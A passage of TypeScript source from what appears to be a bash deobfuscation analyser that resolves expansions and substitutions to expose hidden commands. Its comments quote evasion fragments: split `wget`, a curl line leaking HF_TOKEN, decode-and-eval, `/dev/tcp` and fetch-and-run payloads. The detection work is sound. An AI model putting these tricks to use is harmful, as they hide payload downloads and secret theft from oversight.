        return [{ ...lit(decoded), quoted: true }];
      }
      case 'string':
      case 'translated_string':
      case 'heredoc_body':
        return this.stringPieces(node, ctx, node.type !== 'heredoc_body');
      case 'concatenation':
      case 'command_name':
      case 'heredoc_content': {
        const out: Piece[] = [];
        let pos = node.startIndex;
        for (const c of node.namedChildren) {
          // an empty `` or $() between parts substitutes nothing: `w``get` is wget
          if (c.startIndex > pos) out.push(lit(unescapeWord(this.source.slice(pos, c.startIndex).replace(/``|\$\(\)/g, ''))));
          out.push(...this.pieces(c, ctx, quoted));
          pos = c.endIndex;
        }
        if (node.endIndex > pos) out.push(lit(unescapeWord(this.source.slice(pos, node.endIndex))));
        return this.withoutSplices(out);
      }
      case 'simple_expansion':
      case 'expansion':
        return [this.expansion(node, ctx, quoted)];
      case 'command_substitution': {
        if (node.namedChildren.length === 0) return [{ text: '', split: false, dynamic: false, quoted }];
        // backquotes cannot nest unescaped, so `` `echo ipt``echo ables` `` is two substitutions side by side, which
        // the grammar reads as one: run each and join what they print
        if (node.text.startsWith('`') && node.text.slice(1, -1).includes('``')) return this.adjoiningBackquotes(node.text, quoted, ctx);
        const sub: Ctx = { ...ctx, origin: 'substitution', depth: ctx.depth + 1, redirects: [], pipeFrom: undefined, background: false };
        // `$(< file)`: the grammar gives the substitution a redirect and no command
        const only = node.namedChildren.length === 1 && node.namedChildren[0]!.type === 'file_redirect' ? node.namedChildren[0]! : undefined;
        const inner = only ? this.nullCommand(only, sub, this.redirect(only, sub)) : this.sequence(node.namedChildren, sub);
        const out = inner.last ? this.output(inner.last) : undefined;
        if (out !== undefined) {
          const text = out.replace(/\n+$/, '');
          this.step('command-substitution', `${node.text} → ${text}`);
          return [{ text, split: !quoted, dynamic: false, quoted }];
        }
        return [{ text: node.text, split: false, dynamic: true, quoted }];
      }
      case 'process_substitution': {
        const inner = this.sequence(node.namedChildren, { ...ctx, origin: 'substitution', depth: ctx.depth + 1, redirects: [], pipeFrom: undefined, background: false });
        const out = inner.last ? this.output(inner.last) : undefined;
        // `. <(echo 'cmd')` and `bash <(printf …)` run that text: remember it for follow()
        if (out !== undefined && this.files.size < 32) this.files.set(node.text, out);
        return [{ text: node.text, split: false, dynamic: true, quoted }];
      }
      case 'brace_expression':
        return [lit(node.text)];
      case 'arithmetic_expansion': {
        const value = arithmeticValue(node.text.slice(3, -2));
        if (value === undefined) return [{ text: node.text, split: false, dynamic: true, quoted }];
        this.step('variable', `${node.text} → ${value}`);
        return [{ ...lit(value), quoted }];
      }
      default:
        return [{ text: node.text, split: false, dynamic: true, quoted }];
    }
  }

  private noteQuote(text: string): void {
    if (this.view.steps.length < 50 && text.length < 4) this.step('quote-removal', `${text} → ${text.slice(1, -1)}`);
  }

  private stringPieces(node: Node, ctx: Ctx, dq: boolean): Piece[] {
    const out: Piece[] = [];
    const start = node.startIndex + (dq && node.text.startsWith('"') ? 1 : dq && node.text.startsWith('$"') ? 2 : 0);
    const end = node.endIndex - (dq && node.text.endsWith('"') ? 1 : 0);
    let pos = start;
    const unq = (s: string) => s.replace(/\\\n/g, '').replace(/\\([$`"\\])/g, '$1');
    for (const c of node.namedChildren) {
      if (c.startIndex > pos) out.push({ ...lit(unq(this.source.slice(pos, c.startIndex))), quoted: true });
      // the grammar folds the blanks before a `$` into the expansion (`"$a $b"` has ` $b`): they are the string's
      const blanks = c.type === 'simple_expansion' ? /^[ \t]+/.exec(c.text)?.[0] : undefined;
      if (blanks !== undefined) out.push({ ...lit(blanks), quoted: true });
      if (c.type === 'string_content' || c.type === 'heredoc_content') out.push({ ...lit(unq(c.text)), quoted: true });
      else out.push(...this.pieces(c, ctx, true));
      pos = Math.max(pos, c.endIndex);
    }
    if (end > pos) out.push({ ...lit(unq(this.source.slice(pos, end))), quoted: true });
    if (out.length === 0) out.push({ ...lit(''), quoted: true });
    return out;
  }

  private expansion(node: Node, ctx: Ctx, quoted: boolean): Piece {
    // (without the blanks the grammar folds into a quoted `$`: stringPieces keeps them)
    const dynamicPiece: Piece = { text: node.type === 'simple_expansion' ? node.text.replace(/^[ \t]+/, '') : node.text, split: false, dynamic: true, quoted };
    const named = node.namedChildren;
    const varNode = named.find((c) => c.type === 'variable_name' || c.type === 'special_variable_name');
    // a `$` before a blank names nothing and stays itself (`echo ")sl($ ohce" | rev`); the grammar reads the blank and
    // the word after it as a name
    if (node.type === 'simple_expansion' && varNode && /^[ \t]/.test(varNode.text)) return { text: node.text.replace(/^[ \t]+/, ''), split: !quoted, dynamic: false, quoted };
    if (!varNode) {
      // ${arr[0]} and friends
      const sub = named.find((c) => c.type === 'subscript');
      const v = sub?.childForFieldName('name');
      const index = sub?.childForFieldName('index')?.text;
      const arr = v ? this.arrays.get(v.text) : undefined;
      // `"${arr[*]}"` joins the elements with the first character of IFS (none when IFS is empty: `IFS=;"${c[*]}"`)
      if (arr && index === '*' && quoted) return { text: arr.join((this.env.get('IFS') ?? ' ').slice(0, 1)), split: false, dynamic: false, quoted };
      if (arr && index === '@' && quoted && this.wordsKeepBlanks()) return { text: arr.join(' '), split: false, dynamic: false, quoted, elements: arr };
      if (arr && (index === '@' || index === '*')) return { text: arr.join(' '), split: true, dynamic: false, quoted };
      if (arr && index !== undefined && /^\d+$/.test(index)) return { text: arr[Number(index)] ?? '', split: !quoted, dynamic: false, quoted };
      if (v && this.env.has(v.text)) return { text: this.env.get(v.text)!, split: !quoted, dynamic: false, quoted };
      return dynamicPiece;
    }
    const name = varNode.text;
    // `${!ref}`: the variable that ref's value names (`r=c; c=cat; ${!r}` is `cat`)
    if (node.type === 'expansion' && node.text === `\${!${name}}`) {
      const target = this.env.get(name);
      const named = target !== undefined && /^[A-Za-z_][A-Za-z0-9_]*$/.test(target);
      const value = named ? this.env.get(target) : undefined;
      // a variable the line did not set is read as its name, as `$HF_TOKEN` would be (`k=HF_TOKEN; curl "…?v=${!k}"`)
      if (value === undefined && named) this.step('variable', `${node.text} → $${target}`);
      if (value === undefined) return named ? { ...dynamicPiece, text: `$${target}` } : dynamicPiece;
      this.step('variable', `${node.text} → ${value}`);
      return { text: value, split: !quoted, dynamic: false, quoted };
    }
    // `${!ref:-word}`: the variable ref names, or the word when that one is unset (or empty, with the colon)
    const indirectDefault = node.type === 'expansion' && node.text.startsWith(`\${!${name}`) ? /^(:?)-/.exec(node.text.slice(3 + name.length, -1)) : null;
    if (indirectDefault) {
      const target = this.env.get(name);
      if (target === undefined || !/^[A-Za-z_][A-Za-z0-9_]*$/.test(target)) return dynamicPiece;
      const value = this.env.get(target);
      if (value !== undefined && (value !== '' || indirectDefault[1] === '')) return { text: value, split: !quoted, dynamic: false, quoted };
      const def = named.slice(1).flatMap((c) => this.pieces(c, ctx, true));
      this.step('variable', `${node.text} → ${def.map((p) => p.text).join('')}`);
      return { text: def.map((p) => p.text).join(''), split: !quoted, dynamic: def.some((p) => p.dynamic), quoted };
    }
    if (node.type === 'expansion' && node.text.startsWith('${#')) {
      const v = this.env.get(name);
      return v === undefined ? dynamicPiece : lit(String(v.length));
    }
    // `$9disable` is `$9` and then `disable`: an unbraced positional parameter is one digit
    if (node.type === 'simple_expansion' && /^[1-9]./.test(name)) {
      if (this.inFunction > 0) return dynamicPiece;
      this.step('variable', `$${name[0]} → (empty)`);
      return { text: name.slice(1), split: !quoted, dynamic: false, quoted };
    }
    // all of them as `set --` gave them: `"$@"` a word each, `$@` and `$*` split on IFS, `"$*"` joined by its first character
    if ((name === '@' || name === '*' || name === '#') && this.positional !== undefined && this.inFunction === 0) {
      const all = this.positional;
      if (name === '#') return lit(String(all.length));
      if (name === '*' && quoted) return { text: all.join((this.env.get('IFS') ?? ' ').slice(0, 1)), split: false, dynamic: false, quoted };
      if (name === '@' && quoted && this.wordsKeepBlanks()) return { text: all.join(' '), split: false, dynamic: false, quoted, elements: all };
      return { text: all.join((this.env.get('IFS') ?? ' ').slice(0, 1) || ' '), split: true, dynamic: false, quoted };
    }
    let value = this.env.get(name);
    // positional parameters are empty at the top of an agent's `bash -c` (inside a function they are its
    // arguments, followed per call); `$0` names a script: unknown
    if (value === undefined && /^[1-9@*#]$/.test(name) && this.inFunction === 0) value = name === '#' ? '0' : '';
    const op = node.type === 'expansion' ? node.text.slice(2 + name.length, -1) : '';
    // `${p@P}` expands p as a prompt, command substitutions included: `p='$(wget … && /tmp/.x)'; : "${p@P}"` runs them
    if (op === '@P' && value !== undefined && /\$\(|`/.test(value)) {
      this.step('eval', `${node.text} expands ${value} as a prompt`);
      this.script(`: ${value}`, 'eval', ctx.depth + 1);
    }
    if (/^(?:[,^#%/])/.test(op)) {
      // case changes, prefix/suffix removal and substitution (param-ops.ts)
      const edited = value === undefined || value === DYNAMIC_HOME ? undefined : applyParamOp(value, op);
      if (edited === undefined) return dynamicPiece;
      this.step('variable', `${node.text} → ${edited}`);
      return { text: edited, split: !quoted, dynamic: this.listed.has(name), quoted };
    }
    if (node.type === 'expansion' && named.length > 1) {
      // ${x:-default}, ${x:off:len}
      const ops = node.text.slice(2 + name.length, -1);
      if (ops.startsWith(':-') || ops.startsWith('-')) {
        if (value === undefined || value === '') {
          const def = named.slice(1).flatMap((c) => this.pieces(c, ctx, true));
          return { text: def.map((p) => p.text).join(''), split: !quoted, dynamic: def.some((p) => p.dynamic), quoted };
        }
      } else if (ops.startsWith(':+') || ops.startsWith('+')) {
        // `${x:+eval}`: the alternate word when x is set, as it is when the line assigned it (`X=$(…|base64 -d);${X:+eval} "$X"`)
        const set = value !== undefined ? ops.startsWith('+') || value !== '' : this.view.assignments.some((a) => a.name === name);
        if (value === undefined && !set) return dynamicPiece;
        const alt = set ? named.slice(1).flatMap((c) => this.pieces(c, ctx, true)) : [];
        return { text: alt.map((p) => p.text).join(''), split: !quoted, dynamic: alt.some((p) => p.dynamic), quoted };
      } else if (/^:\d*:0+$/.test(ops)) {
        // a substring of length zero is empty whatever the value (`${0:0:0}/dev/tcp/…`)
        this.step('variable', `${node.text} → (empty)`);
        return lit('');
      } else if (/^:(?:\d+(?::\d+)?|:\d+)$/.test(ops) && value !== undefined) {
        // (an empty offset is 0: `${k::7}`)
        const [, off = '', len] = ops.split(':');
        // HOME stands for every home: only its first character, `/`, is known (`${HOME:0:1}etc`)
        if (value === DYNAMIC_HOME && name === 'HOME') {
          if (Number(off) !== 0 || len !== '1') return dynamicPiece;
          value = '/';
        } else value = value.substr(Number(off), len === undefined ? undefined : Number(len));
      } else if (value !== undefined && !/^:?[-=?+]/.test(ops)) {
        return dynamicPiece;
      }
    }
    if (value === undefined) return dynamicPiece;
    if (name === 'IFS') this.step('ifs', `${node.text} → space`);
    else if (name === 'HOME' && value === DYNAMIC_HOME) this.step('home', `${node.text} → ~`);
    else this.step('variable', `${node.text} → ${value}`);
    return { text: value, split: !quoted, dynamic: this.listed.has(name), quoted };
  }

  /** Best effort for what the parser could not read: split on operators, then on words. */
  private fallback(text: string, ctx: Ctx): Span {
    const span: Span = {};
    let prev: SimpleCommand | undefined = ctx.pipeFrom;
    for (const st of fallbackStatements(text)) {
      // (a lowercase variable the line never set, spliced between letters, is empty, as withoutSplices reads it)
      const words = st.words.map((w) => (w.includes('$') ? w.replace(SPLICE, (m, before: string, name: string) => (this.assigned(name) ? m : before)) : w));
      const cmd = this.emit(words, words.map((w) => w.includes('$')), [], { ...ctx, redirects: [...ctx.redirects, ...st.redirects], origin: ctx.origin === 'line' ? 'fallback' : ctx.origin, pipeFrom: st.pipedFromPrevious ? prev : undefined }, undefined, st.text);
      if (!cmd) continue;
      span.first ??= cmd;
      span.last = cmd;
      prev = cmd;
    }
    return span;
  }
}

interface Piece {
  text: string;
  split: boolean;
  dynamic: boolean;
  quoted: boolean;
  /** The words a quoted `"${a[@]}"` or `"$@"` expands to, one field each whatever they hold (`text` is them joined). */
  elements?: readonly string[];
}
const lit = (text: string): Piece => ({ text, split: false, dynamic: false, quoted: false });

function clip(s: string): string {
  return s.length > 200 ? s.slice(0, 197) + '…' : s;
}

